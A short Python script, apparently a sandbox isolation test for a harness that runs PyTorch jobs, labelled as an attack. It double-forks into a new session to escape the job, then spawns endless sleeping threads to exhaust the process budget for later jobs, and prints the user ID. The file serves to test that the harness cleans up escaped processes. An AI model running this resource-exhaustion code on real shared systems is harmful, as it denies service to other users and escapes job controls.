# Attack: a daemon that outlives the job (double fork, new session) and takes every process and thread it can,
# so that later jobs run out of them. Nothing of it may run once the job has ended.
import os
import threading
import time

import torch

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:

        def hold():
            time.sleep(3600)

        try:
            while True:
                threading.Thread(target=hold, daemon=True).start()
        except RuntimeError:
            pass
        time.sleep(3600)
    os._exit(0)
os.wait()
time.sleep(1)  # let the daemon take the budget while the job still runs
print("UID", os.getuid())
model = lambda x: x.sin()
example_inputs = (torch.ones(2),)
